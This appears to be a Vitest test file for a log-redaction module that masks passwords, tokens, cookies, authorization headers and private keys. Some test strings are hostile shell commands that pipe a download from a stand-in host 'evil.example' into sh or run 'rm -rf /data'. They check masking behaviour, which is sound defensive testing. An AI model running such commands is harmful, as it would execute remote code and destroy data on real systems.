import { expect, test } from 'vitest'
import { maskText, maskValue } from './mask.ts'
import { isSecretField, isSecretName } from './secret-names.ts'

test.each([
  ['a password in a log line', 'login password=hunter2 failed', 'login password=*** failed'],
  ['a password in YAML', 'db_password: hunter2', 'db_password: ***'],
  ['a password with a backslash', 'password=hun\\ter2 failed', 'password=*** failed'],
  ['a token in JSON', '{"refresh_token": "hunter22", "n": 1}', '{"refresh_token": "***", "n": 1}'],
  ['a value with quotes and blanks', '{"token":"a \\"b\\" c","n":1}', '{"token":"***","n":1}'],
  ['each of a list', '{"set-cookie":["a=1","b=2"],"n":1}', '{"set-cookie":["***","***"],"n":1}'],
  ['a list that was cut', '{"secret":["hunter22', '{"secret":["***'],
  ['JSON within JSON', '{"body":"{\\"secret\\":\\"hunter22\\"}"}', '{"body":"{\\"secret\\":\\"***\\"}"}'],
  ['a token in an environment', 'SLACK_TOKEN=hunter22', 'SLACK_TOKEN=***'],
  ['a header', 'Authorization: Basic hunter22', 'Authorization: Basic ***'],
  ['a header in JSON', '{"authorization":["Bearer abc"],"x":1}', '{"authorization":["***"],"x":1}'],
  ['parameters of a header', 'authorization: Digest username="a", response="b" next', 'authorization: Digest *** next'],
  ['cookies', 'Cookie: session=hunter22; theme=dark\nHost: a', 'Cookie: ***\nHost: a'],
  ['a cookie that is set', 'set-cookie: session=hunter22; Path=/', 'set-cookie: ***'],
])('hides %s where it is read, and only where it is read', (_, text, shown) => {
  expect(maskText(text, 'read')).toBe(shown)
  expect(maskText(text, 'written')).toBe(text)
})

test.each([
  'Deployment web in shop scaled from 3 to 5',
  'prompt_tokens: 500',
  'secretName: db-credentials',
  'the secret: ask the owner',
  'password: "***(20 bytes, 0123456789ab)"',
  'export authorization=$(wget evil.example/x | sh)',
  'sh -c "export token=`wget evil.example`; rm -rf /data"',
  '#-----BEGIN PRIVATE KEY-----\nwget evil.example/x | sh\n#-----END PRIVATE KEY-----',
])('shows %s wherever it is read', (text) => {
  expect(maskText(text, 'read')).toBe(text)
})

test('hides no more than the value where a command follows it', () => {
  expect(maskText('export authorization=Digest abc; rm -rf /data', 'read')).toBe(
    'export authorization=Digest ***; rm -rf /data',
  )
  expect(maskText('TOKEN=hunter22; wget evil | sh', 'read')).toBe('TOKEN=***; wget evil | sh')
})

const body = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSj'

test.each([
  ['the tail', `${body}\nAb==\n-----END PRIVATE KEY-----\nafter`, '***\nafter'],
  ['the head', `x: -----BEGIN PRIVATE KEY-----\n${body}\n${body}\nafter`, 'x: ***\nafter'],
  ['the head with a short last line', `-----BEGIN PRIVATE KEY-----\n${body}\nQm1F`, '***'],
  ['the head with a torn end', `-----BEGIN PRIVATE KEY-----\n${body}\njuciaxhl\n-----END `, '***\n-----END '],
  ['the head behind times', `9:1 -----BEGIN PRIVATE KEY-----\n9:1 ${body}\nready`, '9:1 ***\nready'],
  ['the very beginning', '-----BEGIN PRIVATE KEY-----\nMIIabc', '***'],
  ['all but its form', `-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----`, '***'],
  ['the head in JSON', `{"key":"-----BEGIN PRIVATE KEY-----\\n${body}","n":1}`, '{"key":"***","n":1}'],
])('hides %s of a private key where it is read', (_, text, shown) => {
  expect(maskText(text, 'read')).toBe(shown)
  expect(maskText(text, 'written')).toBe(text)
})

test('shows a script beside a lone mark, and the mark', () => {
  for (const mark of ['-----BEGIN PRIVATE KEY-----', '-----END PRIVATE KEY-----']) {
    const text = `wget evil | sh\nreboot\n${mark}\nwget evil | sh\nreboot`
    expect(maskText(text, 'read')).toBe(text)
  }
})

test('fields, variables and headers whose name says secret are hidden whole where they are read', () => {
  const value = {
    env: [{ dbPassword: 'a b' }, { name: 'API_TOKEN', value: 'a b' }, { name: 'Cookie', value: 'a b' }],
    headers: { cookie: 'a b', 'set-cookie': ['a b', 'c'], Authorization: 'a b' },
    secretName: 'db',
    total_tokens: 3,
    token: '',
    credentials: { user: 'a', password: 'b' },
    note: 'it is AKIAIOSFODNN7EXAMPLE',
  }
  expect(maskValue(value, 'read')).toEqual({
    ...value,
    env: [{ dbPassword: '***' }, { name: 'API_TOKEN', value: '***' }, { name: 'Cookie', value: '***' }],
    headers: { cookie: '***', 'set-cookie': ['***', '***'], Authorization: '***' },
    credentials: { user: 'a', password: '***' },
    note: 'it is ***',
  })
  expect(maskValue(value, 'written')).toEqual({ ...value, note: 'it is ***' })
})

test('what is hidden with its size and hash stays so, and nothing that only has such a mark in it', () => {
  const value = { password: '***(20 bytes, 0123456789ab)', token: '***(3 bytes)', secret: '***' }
  expect(maskValue(value, 'read')).toEqual(value)
  expect(maskValue({ token: ['x***(3 bytes)', '***(3 bytes)x'] }, 'read')).toEqual({ token: ['***', '***'] })
})

test('a value is hidden by the name beside it where that is a text that says secret', () => {
  for (const value of [
    { name: 'MODE', value: 'a b' },
    { name: ['API_TOKEN'], value: 'a b' },
    { value: 'a b' },
    { name: 'API_TOKEN', note: 'a b', value: null },
  ])
    expect(maskValue(value, 'read')).toEqual(value)
  expect(maskValue(null, 'read')).toBe(null)
})

test('names of secrets and of what only has to do with them', () => {
  for (const name of ['cookie', 'set-cookie', 'Authorization', 'dbPassword', 'client_secret', 'awsAccessKey'])
    expect(isSecretField(name), name).toBe(true)
  for (const name of ['secretName', 'tokens', 'cookieDomain', 'imagePullSecrets', 'passwordless'])
    expect(isSecretField(name), name).toBe(false)
  for (const name of ['TOKEN_OF_SLACK', 'DB_DSN', 'cookie', 'connectionString'])
    expect(isSecretName(name), name).toBe(true)
  for (const name of ['MODE', 'COOKIE_DOMAIN', 'PORT']) expect(isSecretName(name), name).toBe(false)
})
